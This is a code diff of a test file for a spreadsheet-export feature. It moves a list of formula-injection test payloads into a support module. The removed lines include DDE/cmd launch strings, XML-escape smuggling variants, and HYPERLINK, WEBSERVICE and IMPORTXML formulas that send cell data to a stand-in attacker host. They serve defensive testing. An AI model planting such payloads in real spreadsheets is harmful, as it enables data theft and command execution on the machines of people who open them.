@@ -13,50 +13,9 @@ import { openCodesFile } from '../../api/features/verification/checking/read-fil
 import { ResultFiles } from '../../api/features/verification/checking/result-files.ts';
 import { writeSample } from '../../api/features/verification/sample-files.ts';
 import { toXlsx } from '../../pwa/core/page/table-file.ts';
+import { payloads } from '../support/formula-payloads.ts';
 import { gtinOf } from '../support/look-ups.ts';
 import { unhurried } from '../support/run/pace.ts';
-
-const beginnings = [
-  '=',
-  '+',
-  '-',
-  '@',
-  '\t=',
-  '\r=',
-  '\n=',
-  ' =',
-  "'=",
-  '"=',
-  '＝',
-  '＋',
-  '－',
-  '＠',
-  '\u00a0=',
-  '{=',
-  ';=',
-  ',=',
-  '%0A=',
-];
-const bodies = [
-  '1+1',
-  'SUM(A1:A9)',
-  'HYPERLINK("https://zlo.example?x="&A1,"Kliknij")',
-  "cmd|' /C calc'!A0",
-  'WEBSERVICE("https://zlo.example")',
-  'IMPORTXML("https://zlo.example","//a")',
-  'DDE("cmd";"/C calc";"x")',
-  'INDIRECT("A"&1)',
-  '48 501 502 503',
-  '5901234123457',
-  "2+5+cmd|' /C calc'!A0",
-  '<f>1+1</f>',
-  '</t></is></c><c><f>1+1</f></c>',
-  ']]><f>1+1</f>',
-  '&#61;1+1',
-  '_x003D_1+1',
-];
-/** Texts that a spreadsheet might take for formulas, in every place where a stranger's text comes into a file. */
-const payloads = beginnings.flatMap((beginning) => bodies.map((body) => beginning + body));
 
 const folder = mkdtempSync(join(tmpdir(), 'gtinoteka-openers-'));
 afterAll(() => rmSync(folder, { recursive: true, force: true }));
